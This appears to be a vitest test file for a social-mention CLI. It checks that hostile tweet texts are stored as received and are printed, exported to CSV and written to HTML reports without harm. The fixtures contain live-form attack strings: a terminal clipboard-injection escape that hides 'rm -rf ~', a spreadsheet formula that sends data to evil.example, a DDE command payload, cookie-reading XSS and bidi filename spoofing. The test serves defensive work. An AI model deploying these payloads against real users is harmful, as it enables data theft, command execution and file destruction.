/**
 * Hostile mention texts served by the fake X API, stored by poll, then printed by list and show:
 * stored exactly as received, printed harmlessly, and reading never changes what is stored.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Database from 'better-sqlite3';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { runCommand } from '../helpers/cli.js';
import { TerminalSession } from '../helpers/terminal.js';
import { twitterFixture } from '../helpers/twitter-db.js';

const HOSTILE: Record<string, string> = {
  'terminal escapes': 'acme \x1b]52;c;cm0gLXJmIH4=\x07 clipboard \x1b[2J\x1b[H clear \x1b]0;pwned\x07 title \x1b[31mred\x1b[0m \x9b31m C1 CSI \x1bP DCS \x1b\\ end',
  'bidi overrides': 'acme \u202egnp.exe\u202c invoice \u2066isolated\u2069',
  'spreadsheet formulas': '=HYPERLINK("http://evil.example/?"&A1,"acme refund") +cmd|\' /C calc\'!A0 -2+3 @SUM(1) acme',
  'HTML': 'acme <script>alert(document.cookie)</script><img src=x onerror="alert(1)"> &amp; </td></tr>',
  'tabs and newlines': 'acme\tcolumn\tbreaker\nsecond line\r\nthird\u2028line\u0085next',
  'NUL and other controls': 'acme \u0000nul \u0007bell \u0008backspace \u007fdel',
  '100 KB text': `acme ${'lorem ipsum dolor sit amet '.repeat(3800)}`.slice(0, 100_000),
  'lone surrogates': 'acme \ud800 high alone, low alone \udfff, pair 😀 fine',
};

// eslint-disable-next-line no-control-regex
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

let fixture: Awaited<ReturnType<typeof twitterFixture>>;
const ids = new Map<string, number>();

function dbDigest(): string {
  const db = new Database(fixture.dbPath, { readonly: true });
  try {
    const hash = createHash('sha256');
    for (const table of ['mentions', 'responses', 'events', 'cursors', 'api_usage']) {
      hash.update(JSON.stringify(db.prepare(`SELECT * FROM ${table} ORDER BY rowid`).all()));
    }
    return hash.digest('hex');
  } finally {
    db.close();
  }
}

beforeAll(async () => {
  fixture = await twitterFixture({ settings: [] });
  for (const text of Object.values(HOSTILE)) fixture.fake.addTweet(text, { author: 'evil_author' });
  // An author whose display name carries escapes too.
  [...fixture.fake.users.values()].find((u) => u.username === 'evil_author')!.name = 'Evil \x1b]0;owned\x07\x1b[5m Name';
  const result = await fixture.poll();
  expect(result.code, result.stderr).toBe(0);
  const db = new Database(fixture.dbPath, { readonly: true });
  for (const row of db.prepare('SELECT id, external_id FROM mentions').all() as { id: number; external_id: string }[]) {
    const name = Object.keys(HOSTILE)[fixture.fake.tweets.findIndex((t) => t.id === row.external_id)]!;
    ids.set(name, row.id);
  }
  db.close();
});

afterAll(async () => fixture?.fake.stop());

const cli = (...args: string[]) => runCommand(['--config', `${fixture.dir}/config.yml`, '--db', fixture.dbPath, ...args], { env: fixture.env });
/** Three days on: every hostile mention is past its SLA, so the report lists it among the breaches. */
const later = (...args: string[]) =>
  runCommand(['--config', `${fixture.dir}/config.yml`, '--db', fixture.dbPath, ...args], { env: { ...fixture.env, BRANDWATCH_NOW: new Date(Date.now() + 3 * 86_400_000).toISOString() } });

describe('hostile mention texts', () => {
  it('are stored exactly as received (lone surrogates become U+FFFD, the only change)', () => {
    const db = new Database(fixture.dbPath, { readonly: true });
    for (const [name, text] of Object.entries(HOSTILE)) {
      const stored = (db.prepare('SELECT text FROM mentions WHERE id = ?').get(ids.get(name)) as { text: string }).text;
      expect(stored, name).toBe(text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));
    }
    db.close();
  });

  it('list (piped) prints one clean tab-separated line per mention', async () => {
    const before = dbDigest();
    const result = await cli('list', '--status', 'all');
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).not.toMatch(UNSAFE);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(Object.keys(HOSTILE).length);
    for (const line of lines) expect(line.split('\t')).toHaveLength(8);
    expect(result.stdout).toContain('<script>alert(document.cookie)</script>');
    expect(dbDigest()).toBe(before);
  });

  it('show prints every text whole and harmless, the 100 KB one included', async () => {
    const before = dbDigest();
    for (const [name, text] of Object.entries(HOSTILE)) {
      const result = await cli('show', String(ids.get(name)));
      expect(result.code, `${name}: ${result.stderr}`).toBe(0);
      expect(result.stdout, name).not.toMatch(/[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
      expect(result.stdout, name).not.toMatch(UNSAFE);
      if (name === '100 KB text') expect(result.stdout).toContain(text);
      expect(result.stdout).not.toContain('owned\x07');
    }
    expect(dbDigest()).toBe(before);
  });

  it('--json output is valid JSON carrying the stored text exactly', async () => {
    const list = await cli('--json', 'list', '--status', 'all');
    expect(list.code, list.stderr).toBe(0);
    // JSON escapes C0 control characters: the raw stream holds none (DEL and C1 are legal unescaped JSON).
    expect(list.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f]/);
    const mentions = JSON.parse(list.stdout) as { id: number; text: string }[];
    const db = new Database(fixture.dbPath, { readonly: true });
    for (const m of mentions) {
      expect(m.text).toBe((db.prepare('SELECT text FROM mentions WHERE id = ?').get(m.id) as { text: string }).text);
    }
    db.close();
    const show = await cli('--json', 'show', String(ids.get('terminal escapes')));
    expect(JSON.parse(show.stdout).text).toBe(HOSTILE['terminal escapes']);
  });

  it('list in a terminal (table) lets no escape sequence through', async () => {
    const session = new TerminalSession(['--config', `${fixture.dir}/config.yml`, '--db', fixture.dbPath, 'list', '--status', 'all'], fixture.env);
    expect(await session.exited).toBe(0);
    const raw = (session as unknown as { output: string }).output;
    // NO_COLOR is set: any escape or control character on the screen came from a mention.
    expect(raw.replace(/\r\n/g, '\n')).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(raw).toContain('evil_author');
  });

  it('export: one CSV record per mention, formulas neutralised, texts otherwise whole', async () => {
    const before = dbDigest();
    const out = `${fixture.dir}/mentions.csv`;
    const result = await cli('export', '--since', '2000-01-01', '--out', out);
    expect(result.code, result.stderr).toBe(0);
    const records = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(Object.keys(HOSTILE).length);
    for (const record of records) {
      // No cell a spreadsheet would run as a formula.
      // (Numbers such as a negative sentiment are numbers, not formulas.)
      for (const cell of Object.values(record)) {
        if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, cell.slice(0, 40)).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const formula = records.find((r) => r.id === String(ids.get('spreadsheet formulas')))!;
    expect(formula.text).toBe(`'${HOSTILE['spreadsheet formulas']}`);
    expect(records.find((r) => r.id === String(ids.get('100 KB text')))!.text).toBe(HOSTILE['100 KB text']);
    expect(records.find((r) => r.id === String(ids.get('tabs and newlines')))!.text.startsWith('acme')).toBe(true);
    expect(dbDigest()).toBe(before);
  });

  it('report --format html escapes everything; the table report prints no control characters', async () => {
    const before = dbDigest();
    const html = await later('report', '--since', '7d', '--format', 'html');
    expect(html.code, html.stderr).toBe(0);
    expect(html.stdout).not.toMatch(/<script>alert|onerror="alert|<img src=x/);
    // The breaches list carries the texts, escaped.
    expect(html.stdout).toContain('&#60;script&#62;alert(document.cookie)&#60;/script&#62;');
    expect(html.stdout).not.toMatch(UNSAFE);
    const table = await later('report', '--since', '7d');
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).not.toMatch(UNSAFE);
    expect(dbDigest()).toBe(before);
  });
});
